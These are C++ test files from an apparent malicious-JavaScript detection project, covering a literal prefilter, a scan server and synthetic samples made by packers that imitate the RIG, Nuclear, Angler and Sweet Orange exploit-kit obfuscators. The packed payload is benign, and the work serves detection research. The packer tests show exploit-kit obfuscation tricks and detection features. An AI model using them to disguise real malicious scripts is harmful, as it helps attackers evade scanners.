    if (text.size() < 128) continue;
    for (int k = 0; k < 6; ++k) {
      const std::size_t len = 16 + rng.index(32);
      const std::size_t at = rng.index(text.size() - len);
      const Pattern pat = Pattern::compile(
          Pattern::escape(text.substr(at, len)) + "[0-9a-zA-Z]{0,8}");
      regs.emplace_back(id++, pat.required_literal());
    }
  }
  regs.emplace_back(id++, "");  // fallback rider
  return regs;
}

TEST(TeddyPrefilter, KitgenCorpusOneShotEquivalence) {
  const auto corpus = kitgen_corpus();
  const Pair p = build_pair(corpus_registrations(corpus));
  ASSERT_TRUE(p.teddy.teddy_active());
  ASSERT_FALSE(p.automaton.teddy_active());
  for (const std::string& sample : corpus) {
    EXPECT_EQ(p.teddy.candidates(sample), p.automaton.candidates(sample));
  }
}

TEST(TeddyStreaming, KitgenCorpusEveryChunking) {
  const auto corpus = kitgen_corpus();
  const Pair p = build_pair(corpus_registrations(corpus));
  ASSERT_TRUE(p.teddy.teddy_active());

  for (const std::string& sample : corpus) {
    const auto expect = p.automaton.candidates(sample);
    for (const std::size_t chunk :
         {std::size_t{1}, std::size_t{7}, std::size_t{4096}, sample.size()}) {
      StreamingMatcher stream(p.teddy);
      if (chunk == 0) {
        stream.feed(sample);
      } else {
        for (std::size_t at = 0; at < sample.size(); at += chunk) {
          stream.feed(std::string_view(sample).substr(at, chunk));
        }
      }
      EXPECT_EQ(stream.finish(), expect) << "chunk " << chunk;
    }
  }

  // Every split position of one full sample.
  const std::string& sample = corpus.front();
  const auto expect = p.automaton.candidates(sample);
  StreamingMatcher stream(p.teddy);
  for (std::size_t split = 0; split <= sample.size(); ++split) {
    stream.reset();
    stream.feed(std::string_view(sample).substr(0, split));
    stream.feed(std::string_view(sample).substr(split));
    ASSERT_EQ(stream.finish(), expect) << "split " << split;
  }
}

// ------------------------------ concurrency ------------------------------

TEST(TeddyPrefilter, ConcurrentScansOverOneSharedPlan) {
  const auto corpus = kitgen_corpus();
  const Pair p = build_pair(corpus_registrations(corpus));
  ASSERT_TRUE(p.teddy.teddy_active());
  std::vector<std::vector<std::size_t>> expect;
  for (const std::string& sample : corpus) {
    expect.push_back(p.automaton.candidates(sample));
  }

  std::vector<std::thread> workers;
  std::vector<int> mismatches(4, 0);
  for (int w = 0; w < 4; ++w) {
    workers.emplace_back([&, w] {
      for (int round = 0; round < 8; ++round) {
        for (std::size_t i = 0; i < corpus.size(); ++i) {
          if (p.teddy.candidates(corpus[i]) != expect[i]) ++mismatches[w];
        }
      }
    });
  }
  for (std::thread& t : workers) t.join();
  for (const int m : mismatches) EXPECT_EQ(m, 0);
}

// ----------------------------- dense routing -----------------------------

// The bench's 512-short-literal set (BM_TeddyPrefilterShortLiterals/512):
// 1–2-byte alphanumerics admitting most common bytes into the K=1 shard's
// shuffle mask. Routing is decided PER SHARD: the dense K=1 shard is
// excised from the SIMD pass and its literals walk the dense-literal
// sub-automaton, while the selective K=2 shard stays on Teddy — and
// candidate sets stay byte-identical either way.
TEST(TeddyPrefilter, DenseShardRoutesToSubAutomaton) {
  constexpr std::string_view kAlpha = "abcdefghijklmnopqrstuvwxyz0123456789";
  const auto short_set = [&](std::size_t count) {
    std::vector<std::pair<std::size_t, std::string>> regs;
    for (std::size_t i = 0; i < count; ++i) {
      std::string lit;
      lit.push_back(kAlpha[i % kAlpha.size()]);
      if (i % 7 != 0) {
        lit.push_back(kAlpha[(i / kAlpha.size()) % kAlpha.size()]);
      }
      regs.emplace_back(i, lit);
    }
    return regs;
  };

  // Hybrid: the whole-set estimate is past the threshold but only the
  // single-byte shard is dense — one bad length class must not drag the
  // whole database off the SIMD path.
  const Pair hybrid = build_pair(short_set(512));
  EXPECT_GT(hybrid.teddy.teddy_plans()->expected_hits_per_byte(),
            kDenseRouteHitsPerByte);
  EXPECT_FALSE(hybrid.teddy.teddy_dense());
  EXPECT_TRUE(hybrid.teddy.teddy_active());
  EXPECT_GT(hybrid.teddy.dense_shard_count(), 0u);
  EXPECT_LT(hybrid.teddy.dense_shard_count(),
            hybrid.teddy.teddy_plans()->shard_count());

  // The routing decision is observable in scan stats and changes nothing
  // about the candidate sets.
  const std::string text = kitgen_corpus().front();
  std::vector<std::size_t> out;
  teddy::HitBuffer hits;
  PrefilterStats stats;
  hybrid.teddy.candidates_into(text, out, hits, &stats);
  EXPECT_EQ(stats.fallback, PrefilterFallback::kNone);
  EXPECT_EQ(stats.dense_shards, hybrid.teddy.dense_shard_count());
  expect_equal_candidates(hybrid, text);

  // A sparse fraction of the same generator keeps every shard on Teddy.
  const Pair sparse = build_pair(short_set(64));
  EXPECT_LE(sparse.teddy.teddy_plans()->expected_hits_per_byte(),
            kDenseRouteHitsPerByte);
  EXPECT_TRUE(sparse.teddy.teddy_active());
  EXPECT_EQ(sparse.teddy.dense_shard_count(), 0u);
  expect_equal_candidates(sparse, text);

  // Density is derived state: a loaded artifact makes the same per-shard
  // calls and routes identically.
  std::stringstream bytes;
  hybrid.teddy.serialize(bytes);
  const LiteralPrefilter loaded = LiteralPrefilter::load(bytes);
  EXPECT_FALSE(loaded.teddy_dense());
  EXPECT_TRUE(loaded.teddy_active());
  EXPECT_EQ(loaded.dense_shard_count(), hybrid.teddy.dense_shard_count());
  EXPECT_EQ(loaded.dense_shard_flags(), hybrid.teddy.dense_shard_flags());
  EXPECT_EQ(loaded.candidates(text), hybrid.automaton.candidates(text));
}

// When EVERY shard is dense (a single-byte-only set admits most common
// bytes into its one shuffle mask), the sub-automaton would just duplicate
// the main automaton — the scan takes the full automaton walk, exactly the
// old all-or-nothing route.
TEST(TeddyPrefilter, AllDenseSetRoutesToFullAutomaton) {
  constexpr std::string_view kAlpha = "abcdefghijklmnopqrstuvwxyz0123456789";
  std::vector<std::pair<std::size_t, std::string>> regs;
  for (std::size_t i = 0; i < kAlpha.size(); ++i) {
    regs.emplace_back(i, std::string(1, kAlpha[i]));
  }
  const Pair dense = build_pair(regs);
  EXPECT_TRUE(dense.teddy.teddy_dense());
  EXPECT_FALSE(dense.teddy.teddy_active());
  EXPECT_EQ(dense.teddy.dense_shard_count(),
            dense.teddy.teddy_plans()->shard_count());

  const std::string text = kitgen_corpus().front();
  std::vector<std::size_t> out;
  teddy::HitBuffer hits;
  PrefilterStats stats;
  dense.teddy.candidates_into(text, out, hits, &stats);
  EXPECT_EQ(stats.fallback, PrefilterFallback::kDenseLiterals);
  EXPECT_EQ(stats.first_stage_hits, 0u);
  expect_equal_candidates(dense, text);

  std::stringstream bytes;
  dense.teddy.serialize(bytes);
  const LiteralPrefilter loaded = LiteralPrefilter::load(bytes);
  EXPECT_TRUE(loaded.teddy_dense());
  EXPECT_FALSE(loaded.teddy_active());
  EXPECT_EQ(loaded.candidates(text), dense.automaton.candidates(text));
}

// Streaming over a hybrid-routed prefilter: the dense sub-automaton's DFA
// state carries across chunk boundaries while the sparse shards batch
// through the Teddy window. Every split position of a text that exercises
// both routes must equal the one-shot candidate set.
TEST(TeddyStreaming, HybridDenseRoutingEverySplit) {
  constexpr std::string_view kAlpha = "abcdefghijklmnopqrstuvwxyz0123456789";
  std::vector<std::pair<std::size_t, std::string>> regs;
  for (std::size_t i = 0; i < 512; ++i) {
    std::string lit;
    lit.push_back(kAlpha[i % kAlpha.size()]);
    if (i % 7 != 0) lit.push_back(kAlpha[(i / kAlpha.size()) % kAlpha.size()]);
    regs.emplace_back(i, lit);
  }
  const Pair p = build_pair(regs);
  ASSERT_TRUE(p.teddy.teddy_active());
  ASSERT_GT(p.teddy.dense_shard_count(), 0u);

  const std::string text = kitgen_corpus().front().substr(0, 160);
  const std::vector<std::size_t> expect = p.automaton.candidates(text);
  StreamingMatcher m(p.teddy);
  for (std::size_t split = 0; split <= text.size(); ++split) {
    m.reset();
    m.feed(std::string_view(text).substr(0, split));
    m.feed(std::string_view(text).substr(split));
    EXPECT_EQ(m.finish(), expect) << "split at " << split;
  }
}

}  // namespace
}  // namespace kizzle::match
