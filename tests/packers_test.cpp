#include <gtest/gtest.h>

#include "kitgen/packers.h"
#include "support/interner.h"
#include "text/abstraction.h"
#include "kitgen/payload.h"
#include "support/rng.h"
#include "text/lexer.h"
#include "text/normalize.h"

namespace kizzle::kitgen {
namespace {

const std::string kPayload =
    "function core(){var probe=navigator.plugins;return probe.length}"
    "core();";

// ---------------------------------- RIG ----------------------------------

TEST(RigPacker, FeatureAppearsInNormalizedText) {
  Rng rng(1);
  RigPackerState st;
  st.delim = "y6";
  const std::string packed = pack_rig(kPayload, st, rng);
  EXPECT_NE(text::normalize_raw(packed).find(rig_analyst_feature(st)),
            std::string::npos);
}

TEST(RigPacker, DelimiterSeparatesEveryCode) {
  Rng rng(2);
  RigPackerState st;
  st.delim = "Qz";
  const std::string packed = pack_rig(kPayload, st, rng);
  // Count delimiter occurrences inside collector strings: one per payload
  // byte (each code carries a trailing delimiter).
  std::size_t count = 0;
  for (const auto& t : text::lex(packed)) {
    if (t.cls != text::TokenClass::String) continue;
    const std::string v = t.text;
    for (std::size_t p = v.find("Qz"); p != std::string::npos;
         p = v.find("Qz", p + 2)) {
      ++count;
    }
  }
  EXPECT_EQ(count, kPayload.size() + 1);  // +1: the delimiter declaration
}

TEST(RigPacker, SamplesDifferOnlyInIdentifiers) {
  Rng rng(3);
  const std::string a = pack_rig(kPayload, {}, rng);
  const std::string b = pack_rig(kPayload, {}, rng);
  EXPECT_NE(a, b);  // identifiers randomized
  // Abstract token streams are identical (the clustering invariant).
  Interner in;
  const auto sa = text::abstract_tokens(
      text::lex(a), text::Abstraction::KeywordsAndPunct, in);
  const auto sb = text::abstract_tokens(
      text::lex(b), text::Abstraction::KeywordsAndPunct, in);
  EXPECT_EQ(sa, sb);
}

// -------------------------------- Nuclear --------------------------------

TEST(NuclearPacker, ObfuscationModes) {
  NuclearPackerState insert;
  insert.strip = "#AB";
  insert.mode = ObfuscationMode::InsertOnce;
  EXPECT_EQ(nuclear_obfuscate("eval", insert), "ev#ABal");
  NuclearPackerState inter;
  inter.strip = "U";
  inter.mode = ObfuscationMode::Interleave;
  EXPECT_EQ(nuclear_obfuscate("eval", inter), "eUvUaUlU");
}

TEST(NuclearPacker, FeatureAppearsInNormalizedText) {
  Rng rng(4);
  NuclearPackerState st;
  st.strip = "UluN";
  st.mode = ObfuscationMode::Interleave;
  const std::string packed = pack_nuclear(kPayload, st, rng);
  EXPECT_NE(text::normalize_raw(packed).find(nuclear_analyst_feature(st)),
            std::string::npos);
}

TEST(NuclearPacker, KeyIsPerResponse) {
  // "the encryption key — and therefore the encrypted payload — for the
  // Nuclear exploit kit differs in every response" (§II.A).
  Rng rng(5);
  const std::string a = pack_nuclear(kPayload, {}, rng);
  const std::string b = pack_nuclear(kPayload, {}, rng);
  auto key_of = [](const std::string& packed) {
    for (const auto& t : text::lex(packed)) {
      if (t.cls == text::TokenClass::String && t.text.size() > 60 &&
          t.text.find_first_not_of("0123456789\"") != std::string::npos) {
        return t.text;
      }
    }
    return std::string();
  };
  EXPECT_NE(key_of(a), key_of(b));
}

TEST(NuclearPacker, RadixSixteenEmitsHexIndices) {
  Rng rng(6);
  NuclearPackerState st;
  st.radix = 16;
  const std::string packed = pack_nuclear(kPayload, st, rng);
  EXPECT_NE(packed.find(",16)"), std::string::npos);
  EXPECT_EQ(packed.find(",10)"), std::string::npos);
}

TEST(NuclearPacker, RejectsBadRadix) {
  Rng rng(7);
  NuclearPackerState st;
  st.radix = 8;
  EXPECT_THROW(pack_nuclear(kPayload, st, rng), std::invalid_argument);
}

// --------------------------------- Angler ---------------------------------

TEST(AnglerPacker, FeatureReflectsSplitPattern) {
  AnglerPackerState st;
  st.eval_parts = {"e", "va", "l"};
  EXPECT_EQ(angler_analyst_feature(st), "[e+va+l](");
  Rng rng(8);
  const std::string packed = pack_angler(kPayload, st, rng);
  EXPECT_NE(text::normalize_raw(packed).find("[e+va+l]("),
            std::string::npos);
}

TEST(AnglerPacker, CodesAreShiftedByOffset) {
  Rng rng(9);
  AnglerPackerState st;
  st.offset = 100;
  const std::string packed = pack_angler(kPayload, st, rng);
  // The first payload byte is 'f' (102): the first array entry is 202.
  const auto tokens = text::lex(packed);
  for (std::size_t i = 0; i + 1 < tokens.size(); ++i) {
    if (tokens[i].cls == text::TokenClass::Punctuator &&
        tokens[i].text == "[" &&
        tokens[i + 1].cls == text::TokenClass::Number) {
      EXPECT_EQ(tokens[i + 1].text, "202");
      return;
    }
  }
  FAIL() << "no numeric array found";
}

// ------------------------------ Sweet Orange ------------------------------

TEST(SweetOrangePacker, KeyCharactersArePlanted) {
  Rng rng(10);
  SweetOrangePackerState st;
  const std::string packed = pack_sweet_orange(kPayload, st, rng);
  // Each junk string must carry its key character at its secret position.
  const auto tokens = text::lex(packed);
  std::size_t junk_seen = 0;
  for (const auto& t : tokens) {
    if (t.cls != text::TokenClass::String) continue;
    const std::string v = t.text.substr(1, t.text.size() - 2);
    if (junk_seen < st.key.size() && v.size() > 10 && v.size() < 30 &&
        v.find_first_not_of("0123456789abcdefghijklmnopqrstuvwxyz"
                            "ABCDEFGHIJKLMNOPQRSTUVWXYZ") ==
            std::string::npos) {
      const int pos = st.positions[junk_seen];
      ASSERT_LT(static_cast<std::size_t>(pos), v.size());
      EXPECT_EQ(v[static_cast<std::size_t>(pos)], st.key[junk_seen])
          << "junk string " << junk_seen;
      ++junk_seen;
    }
  }
  EXPECT_EQ(junk_seen, st.key.size());
}

TEST(SweetOrangePacker, FeatureUsesFirstSqrtConstant) {
  SweetOrangePackerState st;
  st.positions = {12, 13, 14, 15, 16, 17, 10, 11};
  EXPECT_EQ(sweet_orange_analyst_feature(st), ".charAt(Math.sqrt(144))");
}

TEST(SweetOrangePacker, MismatchedKeyThrows) {
  Rng rng(11);
  SweetOrangePackerState st;
  st.key = "short";
  EXPECT_THROW(pack_sweet_orange(kPayload, st, rng), std::invalid_argument);
}

// ----------------------- cross-cutting invariants -----------------------

TEST(AllPackers, PackedSamplesLexStrictly) {
  Rng rng(12);
  const std::string rig = pack_rig(kPayload, {}, rng);
  const std::string nk = pack_nuclear(kPayload, {}, rng);
  const std::string ang = pack_angler(kPayload, {}, rng);
  const std::string so = pack_sweet_orange(kPayload, {}, rng);
  for (const std::string& packed : {rig, nk, ang, so}) {
    EXPECT_NO_THROW(text::lex(packed, text::LexOptions{.tolerant = false}));
  }
}

TEST(AllPackers, NormalizationConsistency) {
  // The property the whole matching path relies on: raw normalization of a
  // packed sample equals the token-reconstructed normalization.
  Rng rng(13);
  for (const std::string& packed :
       {pack_rig(kPayload, {}, rng), pack_nuclear(kPayload, {}, rng),
        pack_angler(kPayload, {}, rng),
        pack_sweet_orange(kPayload, {}, rng)}) {
    EXPECT_EQ(text::normalize_raw(packed), text::normalize_js(packed));
  }
}

TEST(AdversarialPacker, ZeroDensityStillDiffersFromPlain) {
  // Even at density 0 the adversarial packer is its own format (junk hooks
  // compiled in), but it must contain no junk statements.
  Rng rng(14);
  const std::string packed =
      pack_rig_adversarial(kPayload, {}, /*junk_density=*/0.0, rng);
  EXPECT_NE(text::normalize_raw(packed).find("=y6;function"),
            std::string::npos);
}

TEST(AdversarialPacker, DensityIncreasesSize) {
  Rng rng(15);
  const std::string low =
      pack_rig_adversarial(kPayload, {}, 0.0, rng);
  const std::string high =
      pack_rig_adversarial(kPayload, {}, 1.0, rng);
  EXPECT_GT(high.size(), low.size());
}

}  // namespace
}  // namespace kizzle::kitgen
