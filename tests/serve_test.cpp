// Scan-service tests (serve/server.h): queue and histogram units, typed
// shed-load under deterministic overload, drain semantics, the lint gate
// on the hot-swap path, and — the load-bearing ones, run under TSan in CI —
// scans and streams racing repeated database flips: every accepted request
// completes, streams finish on their opening epoch, and verdicts stay
// byte-identical to a single-epoch run (the swap artifacts only add a
// canary signature that never matches the corpus).
#include <gtest/gtest.h>

#include <atomic>
#include <chrono>
#include <condition_variable>
#include <cstdio>
#include <fstream>
#include <mutex>
#include <sstream>
#include <string>
#include <thread>
#include <vector>

#include "engine/engine.h"
#include "serve/loadgen.h"
#include "serve/server.h"
#include "support/histogram.h"
#include "support/mpmc_queue.h"

namespace kizzle::serve {
namespace {

using support::BoundedMpmcQueue;
using support::LatencyHistogram;

// The fixture is expensive (a pipeline day); build it once per process.
const ServeFixture& fixture() {
  static const ServeFixture fx = [] {
    FixtureConfig cfg;
    cfg.max_docs = 64;  // plenty for verdict checks, keeps scans short
    return make_fixture(cfg);
  }();
  return fx;
}

// A one-latch rendezvous: submit, wait for the worker's callback.
struct Waiter {
  std::mutex mu;
  std::condition_variable cv;
  bool done = false;
  ScanResponse resp;

  ResponseFn fn() {
    return [this](ScanResponse r) {
      std::lock_guard<std::mutex> lock(mu);
      resp = std::move(r);
      done = true;
      cv.notify_one();
    };
  }
  ScanResponse wait() {
    std::unique_lock<std::mutex> lock(mu);
    cv.wait(lock, [this] { return done; });
    done = false;
    return resp;
  }
};

// ------------------------------ queue unit ------------------------------

TEST(MpmcQueue, FifoAndBoundedRejection) {
  BoundedMpmcQueue<int> q(3);
  EXPECT_EQ(q.capacity(), 3u);
  for (int i = 0; i < 3; ++i) {
    int v = i;
    EXPECT_TRUE(q.try_push(v));
  }
  int overflow = 99;
  EXPECT_FALSE(q.try_push(overflow));
  EXPECT_EQ(overflow, 99);  // rejected item is not consumed
  int out = -1;
  EXPECT_TRUE(q.pop(out));
  EXPECT_EQ(out, 0);
  int refill = 3;
  EXPECT_TRUE(q.try_push(refill));  // slot freed, ring wraps
  for (int expect = 1; expect <= 3; ++expect) {
    ASSERT_TRUE(q.pop(out));
    EXPECT_EQ(out, expect);
  }
}

TEST(MpmcQueue, PopBatchTakesUpToMax) {
  BoundedMpmcQueue<int> q(8);
  for (int i = 0; i < 5; ++i) {
    int v = i;
    ASSERT_TRUE(q.try_push(v));
  }
  std::vector<int> batch;
  EXPECT_EQ(q.pop_batch(batch, 3), 3u);
  EXPECT_EQ(batch, (std::vector<int>{0, 1, 2}));
  batch.clear();  // pop_batch appends; the caller owns clearing
  EXPECT_EQ(q.pop_batch(batch, 10), 2u);
  EXPECT_EQ(batch, (std::vector<int>{3, 4}));
}

TEST(MpmcQueue, CloseDrainsAcceptedThenFailsFast) {
  BoundedMpmcQueue<int> q(4);
  int v = 7;
  ASSERT_TRUE(q.try_push(v));
  q.close();
  int rejected = 8;
  EXPECT_FALSE(q.try_push(rejected));
  int out = -1;
  EXPECT_TRUE(q.pop(out));  // admitted before close is still delivered
  EXPECT_EQ(out, 7);
  EXPECT_FALSE(q.pop(out));  // closed and empty
  std::vector<int> batch;
  EXPECT_FALSE(q.pop_batch(batch, 4));
}

TEST(MpmcQueue, CloseWakesBlockedConsumers) {
  BoundedMpmcQueue<int> q(2);
  std::atomic<int> woke{0};
  std::vector<std::thread> consumers;
  for (int i = 0; i < 3; ++i) {
    consumers.emplace_back([&] {
      int out;
      while (q.pop(out)) {
      }
      woke.fetch_add(1);
    });
  }
  std::this_thread::sleep_for(std::chrono::milliseconds(10));
  q.close();
  for (std::thread& t : consumers) t.join();
  EXPECT_EQ(woke.load(), 3);
}

// ---------------------------- histogram unit ----------------------------

TEST(Histogram, SmallValuesAreExact) {
  LatencyHistogram h;
  for (std::uint64_t v = 0; v < 64; ++v) h.record(v);
  EXPECT_EQ(h.count(), 64u);
  EXPECT_EQ(h.min(), 0u);
  EXPECT_EQ(h.max(), 63u);
  // Values under 2^kSubBits land in their own bucket: quantiles are exact.
  EXPECT_EQ(h.percentile(0.5), 31u);
  EXPECT_EQ(h.percentile(1.0), 63u);
}

TEST(Histogram, RelativeErrorBoundAndClamp) {
  LatencyHistogram h;
  const std::uint64_t v = 123456789;
  h.record(v, 1000);
  const std::uint64_t p50 = h.percentile(0.5);
  EXPECT_GE(p50, v);  // inclusive bucket upper bound
  EXPECT_LE(static_cast<double>(p50 - v), static_cast<double>(v) / 64.0);
  // The top percentile never exceeds the recorded max.
  EXPECT_EQ(h.percentile(1.0), v);
  EXPECT_EQ(h.max(), v);
}

TEST(Histogram, MergeEqualsCombinedRecording) {
  LatencyHistogram a, b, both;
  for (std::uint64_t v : {5u, 900u, 70000u, 1u}) {
    a.record(v);
    both.record(v);
  }
  for (std::uint64_t v : {12u, 44000u, 3u}) {
    b.record(v);
    both.record(v);
  }
  a.merge(b);
  EXPECT_EQ(a.count(), both.count());
  EXPECT_EQ(a.min(), both.min());
  EXPECT_EQ(a.max(), both.max());
  for (const double q : {0.1, 0.5, 0.9, 0.99, 1.0}) {
    EXPECT_EQ(a.percentile(q), both.percentile(q)) << "q=" << q;
  }
  a.clear();
  EXPECT_EQ(a.count(), 0u);
  EXPECT_EQ(a.percentile(0.99), 0u);
}

// ------------------------------ one-shots -------------------------------

TEST(ScanServer, OneShotVerdictsMatchDirectEngineScans) {
  const ServeFixture& fx = fixture();
  ServerConfig cfg;
  cfg.workers = 2;
  ScanServer server(fx.database, cfg);
  engine::Scratch scratch;
  Waiter w;
  for (const CorpusDoc& doc : fx.docs) {
    ASSERT_EQ(server.submit(doc.text, w.fn()), RequestStatus::kOk);
    const ScanResponse resp = w.wait();
    EXPECT_EQ(resp.status, RequestStatus::kOk);
    const auto expect = engine::first_match(*fx.database, doc.text, scratch);
    EXPECT_EQ(resp.matched, expect.has_value());
    if (expect) {
      EXPECT_EQ(resp.sig_index, expect->sig_index);
      EXPECT_EQ(resp.signature, std::string(expect->name));
      EXPECT_EQ(resp.match_begin, expect->begin);
      EXPECT_EQ(resp.match_end, expect->end);
    }
  }
  const ServerStats stats = server.stats();
  EXPECT_EQ(stats.completed, fx.docs.size());
  server.stop();
}

// ------------------------- typed shed + drain ---------------------------

// Deterministic overload: one worker, capacity-1 queue. The first request
// parks the worker inside its completion callback, the second fills the
// queue, so the third MUST be shed with typed kOverloaded at submit.
TEST(ScanServer, QueueFullShedsTypedAtSubmit) {
  const ServeFixture& fx = fixture();
  ServerConfig cfg;
  cfg.workers = 1;
  cfg.queue_capacity = 1;
  cfg.batch_max = 1;
  ScanServer server(fx.database, cfg);

  std::mutex mu;
  std::condition_variable cv;
  bool worker_parked = false, release = false;
  const RequestStatus first = server.submit(fx.docs[0].text, [&](ScanResponse) {
    std::unique_lock<std::mutex> lock(mu);
    worker_parked = true;
    cv.notify_all();
    cv.wait(lock, [&] { return release; });
  });
  ASSERT_EQ(first, RequestStatus::kOk);
  {
    std::unique_lock<std::mutex> lock(mu);
    cv.wait(lock, [&] { return worker_parked; });
  }
  Waiter w;
  ASSERT_EQ(server.submit(fx.docs[0].text, w.fn()), RequestStatus::kOk);
  // Queue now holds one job and the worker is parked: the edge rejects.
  std::uint64_t rejected = 0;
  while (server.submit(fx.docs[0].text,
                       [](ScanResponse) { FAIL() << "shed ran callback"; }) ==
         RequestStatus::kOverloaded) {
    if (++rejected >= 3) break;
  }
  EXPECT_EQ(rejected, 3u);
  {
    std::lock_guard<std::mutex> lock(mu);
    release = true;
    cv.notify_all();
  }
  EXPECT_EQ(w.wait().status, RequestStatus::kOk);
  const ServerStats stats = server.stats();
  EXPECT_GE(stats.shed_queue_full, 3u);
  server.stop();
}

// Stale shedding: a request older than max_queue_age when a worker finally
// pops it completes as kOverloaded without being scanned.
TEST(ScanServer, StaleRequestsShedOnPop) {
  const ServeFixture& fx = fixture();
  ServerConfig cfg;
  cfg.workers = 1;
  cfg.queue_capacity = 8;
  cfg.batch_max = 1;
  cfg.max_queue_age = std::chrono::microseconds(500);
  ScanServer server(fx.database, cfg);

  std::mutex mu;
  std::condition_variable cv;
  bool worker_parked = false, release = false;
  ASSERT_EQ(server.submit(fx.docs[0].text,
                          [&](ScanResponse) {
                            std::unique_lock<std::mutex> lock(mu);
                            worker_parked = true;
                            cv.notify_all();
                            cv.wait(lock, [&] { return release; });
                          }),
            RequestStatus::kOk);
  {
    std::unique_lock<std::mutex> lock(mu);
    cv.wait(lock, [&] { return worker_parked; });
  }
  Waiter w;
  ASSERT_EQ(server.submit(fx.docs[0].text, w.fn()), RequestStatus::kOk);
  std::this_thread::sleep_for(std::chrono::milliseconds(20));  // goes stale
  {
    std::lock_guard<std::mutex> lock(mu);
    release = true;
    cv.notify_all();
  }
  EXPECT_EQ(w.wait().status, RequestStatus::kOverloaded);
  EXPECT_GE(server.stats().shed_stale, 1u);
  server.stop();
}

TEST(ScanServer, DrainWaitsForEveryAdmittedJob) {
  const ServeFixture& fx = fixture();
  ServerConfig cfg;
  cfg.workers = 2;
  ScanServer server(fx.database, cfg);
  std::atomic<std::size_t> completions{0};
  const std::size_t n = 200;
  for (std::size_t i = 0; i < n; ++i) {
    ASSERT_EQ(server.submit(fx.docs[i % fx.docs.size()].text,
                            [&](ScanResponse) { completions.fetch_add(1); }),
              RequestStatus::kOk);
  }
  server.drain();
  EXPECT_EQ(completions.load(), n);
  server.stop();
  EXPECT_EQ(server.submit(fx.docs[0].text, [](ScanResponse) {}),
            RequestStatus::kShuttingDown);
}

// ------------------------------ lint gate -------------------------------

TEST(ScanServer, LintGateRefusesBombArtifactAndKeepsEpoch) {
  const ServeFixture& fx = fixture();
  ScanServer server(fx.database, ServerConfig{});
  const std::uint64_t epoch0 = server.epoch();

  std::istringstream bomb(fx.bomb_artifact);
  const ScanServer::SwapResult refused = server.deploy_artifact(bomb);
  EXPECT_FALSE(refused.accepted);
  EXPECT_EQ(refused.epoch, epoch0);
  EXPECT_FALSE(refused.reason.empty());
  EXPECT_EQ(server.epoch(), epoch0);
  EXPECT_EQ(server.database(), fx.database);

  std::istringstream garbage("not an artifact");
  EXPECT_FALSE(server.deploy_artifact(garbage).accepted);

  std::istringstream good(fx.swap_artifact);
  const ScanServer::SwapResult accepted = server.deploy_artifact(good);
  EXPECT_TRUE(accepted.accepted);
  EXPECT_EQ(accepted.epoch, epoch0 + 1);
  EXPECT_EQ(server.epoch(), epoch0 + 1);

  const ServerStats stats = server.stats();
  EXPECT_EQ(stats.swaps_rejected, 2u);
  EXPECT_EQ(stats.epoch_swaps, 1u);
  server.stop();
}

// --------------------- scans racing epoch flips (TSan) ------------------

// One-shot scans from several threads while a flipper republishes the
// database continuously. Nothing may fail, and every verdict must be
// byte-identical to a single-epoch run: the swap target only adds a canary
// signature that never occurs in the corpus.
TEST(ScanServer, ConcurrentScansAcrossRepeatedFlipsKeepVerdicts) {
  const ServeFixture& fx = fixture();
  // Expected verdicts against the original database.
  struct Expect {
    bool matched;
    std::string name;
  };
  std::vector<Expect> expect;
  {
    engine::Scratch scratch;
    for (const CorpusDoc& doc : fx.docs) {
      const auto m = engine::first_match(*fx.database, doc.text, scratch);
      expect.push_back(Expect{m.has_value(),
                              m ? std::string(m->name) : std::string()});
    }
  }

  ServerConfig cfg;
  cfg.workers = 2;
  cfg.queue_capacity = 4096;
  ScanServer server(fx.database, cfg);

  // Deploys are lint-gated (the artifact path recompiles and verifies),
  // so each flip takes real time: run a FIXED number of flips and keep the
  // clients scanning until the last one lands — every flip then races
  // live traffic.
  constexpr int kFlips = 4;
  std::atomic<bool> flips_done{false};
  std::atomic<std::uint64_t> flips_refused{0};
  std::thread flipper([&] {
    for (int k = 0; k < kFlips; ++k) {
      std::istringstream art(k % 2 == 0 ? fx.swap_artifact : fx.artifact);
      if (!server.deploy_artifact(art).accepted) flips_refused.fetch_add(1);
    }
    flips_done.store(true);
  });

  std::atomic<std::uint64_t> wrong{0};
  std::vector<std::thread> clients;
  for (int c = 0; c < 3; ++c) {
    clients.emplace_back([&] {
      Waiter w;
      for (int round = 0; round < 2 || !flips_done.load(); ++round) {
        for (std::size_t i = 0; i < fx.docs.size(); ++i) {
          const RequestStatus st = server.submit(fx.docs[i].text, w.fn());
          if (st != RequestStatus::kOk) {
            wrong.fetch_add(1);  // closed-loop load must never be shed here
            continue;
          }
          const ScanResponse resp = w.wait();
          if (resp.status != RequestStatus::kOk ||
              resp.matched != expect[i].matched ||
              (resp.matched && resp.signature != expect[i].name)) {
            wrong.fetch_add(1);
          }
        }
      }
    });
  }
  for (std::thread& t : clients) t.join();
  flipper.join();
  EXPECT_EQ(wrong.load(), 0u);
  EXPECT_EQ(flips_refused.load(), 0u);
  EXPECT_EQ(server.stats().epoch_swaps, static_cast<std::uint64_t>(kFlips));
  server.stop();
}

// Streams opened before a flip finish on their opening epoch with the
// opening database's verdict, no matter how many flips happen mid-stream.
TEST(ScanServer, StreamsFinishOnTheirOpeningEpoch) {
  const ServeFixture& fx = fixture();
  ServerConfig cfg;
  cfg.workers = 2;
  ScanServer server(fx.database, cfg);

  // Expected verdict for each doc on the ORIGINAL database via the
  // engine's own streaming path.
  engine::Scratch scratch;
  for (std::size_t i = 0; i < std::min<std::size_t>(fx.docs.size(), 16); ++i) {
    const std::string& text = fx.docs[i].text;
    const std::uint64_t epoch0 = server.epoch();
    ScanServer::Stream s = server.open_stream();
    EXPECT_EQ(s.epoch(), epoch0);

    const std::size_t half = text.size() / 2;
    ASSERT_EQ(s.feed(text.substr(0, half)), RequestStatus::kOk);
    // Flip the database mid-stream (alternating keeps every deploy a
    // real change).
    std::istringstream art(i % 2 == 0 ? fx.swap_artifact : fx.artifact);
    ASSERT_TRUE(server.deploy_artifact(art).accepted);
    ASSERT_EQ(s.feed(text.substr(half)), RequestStatus::kOk);

    Waiter w;
    ASSERT_EQ(s.finish(w.fn()), RequestStatus::kOk);
    const ScanResponse resp = w.wait();
    EXPECT_EQ(resp.status, RequestStatus::kOk);
    EXPECT_EQ(resp.epoch, epoch0) << "stream completed on a later epoch";

    const auto expect = engine::first_match(*fx.database, text, scratch);
    EXPECT_EQ(resp.matched, expect.has_value());
    if (expect) EXPECT_EQ(resp.signature, std::string(expect->name));

    // Double-finish is rejected, typed.
    EXPECT_EQ(s.finish([](ScanResponse) {}), RequestStatus::kShuttingDown);
  }
  server.stop();
}

// ------------------------------- loadgen --------------------------------

